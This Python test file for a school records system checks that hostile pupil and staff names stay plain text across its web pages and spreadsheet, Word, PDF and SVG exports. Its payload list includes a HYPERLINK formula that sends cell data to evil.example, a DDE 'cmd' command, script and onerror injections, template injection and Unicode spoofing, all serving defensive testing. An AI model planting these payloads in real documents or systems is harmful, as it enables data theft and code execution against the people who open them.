"""Names that would like to be more than text: on every page and in every file they are text."""

import io
import zipfile
from collections import defaultdict
from html.parser import HTMLParser
from xml.etree import ElementTree

import openpyxl
import pytest
from docx import Document
from matrix import people, signed_in_client
from pypdf import PdfReader
from walking import answers

from opora.records.actions.by import PROGRAM
from opora.records.actions.people import employ
from opora.records.models import OrgUnit, Pupil, Staff
from opora.vocabulary.text import squeeze
from schooling import teach_all

# One of each kind: formulas of Excel, LibreOffice and Lotus, links, markup, templates, what cannot
# be seen, look-alikes, and what is merely long.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Иванов")',
    "=cmd|'/c calc'!A1",
    "+7 900 000-00-00",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=2+2",
    "＝3+3",
    "http://evil.example/?x",
    '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "{{ 7*7 }}{% now 'Y' %}",
    "Ив\x0bанов '\"&amp;",
    "a\u202egnp.xslx\u200f",
    "Петров\u00a0И.",
    "и\u0306од Ивaнoв",
    "Ы" * 300,
)
HALVES = (HOSTILE[:8], HOSTILE[8:])
CLASSES = ("9А", "9Б", "9В")
BOOK, WORD, PAPER, PAGE, PICTURE = ".xlsx", ".docx", ".pdf", ".html", ".svg"


@pytest.fixture(params=HALVES, ids=["formulas", "markup"])
def names(request, town, on_the_day):
    """Plant half of the names: pupils with marks, staff, teachers, the school itself."""
    own = [pupil for label in CLASSES for pupil in town.school.pupils[label]]
    for pupil, name in zip(own, [*request.param, request.param[0]], strict=True):
        row = Pupil.objects.get(pk=pupil)
        row.name = name
        row.save()
    for name in request.param:
        employ(by=PROGRAM, name=name, unit=town.school.number, position=name[:200])
    for key, name in zip(("deputy_head", "class_teacher"), request.param[:2], strict=True):
        Staff.objects.filter(pk=town.staff[key]).update(name=name)
    OrgUnit.objects.filter(pk=town.school.number).update(name=request.param[1])
    teach_all(town.school, *CLASSES)
    return request.param


class Markup(HTMLParser):
    """What a page is made of: its text, and whatever in it could act."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.acts: list[str] = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        self.text += [value for name, value in attrs if name in ("value", "alt") and value]
        strange = [name for name in given if name.startswith("on")]
        where = [given[name] for name in ("href", "src", "action") if given.get(name)]
        strange += [each for each in where if not each.startswith("data:image/") and ":" in each]
        if strange or (tag == "script" and not given.get("src")):
            self.acts.append(f"{tag} {strange}")

    def handle_data(self, data):
        self.text.append(data)


def of_page(content):
    page = Markup()
    page.feed(content.decode())
    return page.text, page.acts


def of_picture(content):
    parts = list(ElementTree.fromstring(content).iter())
    return list(ElementTree.fromstring(content).itertext()), [
        part.tag for part in parts if part.tag.rpartition("}")[2] in ("script", "a", "image")
    ]


def of_book(content):
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets/" in name]
    acts = [
        mark for mark in (b"<f>", b"<f ", b"<hyperlink") if any(mark in each for each in sheets)
    ]
    cells = [
        cell
        for sheet in openpyxl.load_workbook(io.BytesIO(content))
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    acts += [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    return [str(cell.value) for cell in cells], acts


def of_word(content):
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        body = parts.read("word/document.xml")
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    acts = [mark for mark in (b"<w:hyperlink", b"HYPERLINK ", b"DDE") if mark in body]
    return [*cells, *(line.text for line in document.paragraphs)], acts


def of_paper(content):
    pages = PdfReader(io.BytesIO(content)).pages
    acts = [key for key in (b"/JavaScript", b"/Launch", b"/OpenAction") if key in content]
    links = [link.get_object().get("/A") for page in pages for link in page.get("/Annots", ())]
    return [page.extract_text() for page in pages], acts + [each for each in links if each]


READERS = {BOOK: of_book, WORD: of_word, PAPER: of_paper, PAGE: of_page, PICTURE: of_picture}


def kind_of(response):
    given = response.headers["Content-Type"]
    kinds = {"spreadsheet": BOOK, "word": WORD, "pdf": PAPER, "html": PAGE, "svg": PICTURE}
    return next((kind for mark, kind in kinds.items() if mark in given), None)


_MOST = 500  # addresses: enough to come to the files of every class


@pytest.mark.slow
def test_a_name_is_text_on_every_page_and_in_every_file(town, names):
    client = signed_in_client(people(town)["deputy_head"])
    said, acting, broken = defaultdict(set), [], []
    start = [f"/units/{town.school.number}/people/"]
    for address, response, content in answers(client, start, most=_MOST):
        kind = kind_of(response)
        broken += [(address, response.status_code)] if response.status_code >= 400 else []
        texts, acts = READERS[kind](content) if kind else ([], [])
        said[kind] |= {squeeze(text) for text in texts}
        acting += [(address, *acts)] if acts else []
    assert broken == []
    assert acting == []
    for kind in (PAGE, BOOK, WORD):
        lost = [name for name in names if not any(squeeze(name) in text for text in said[kind])]
        assert (kind, lost) == (kind, [])
    assert said[PAPER]
    assert said[PICTURE]
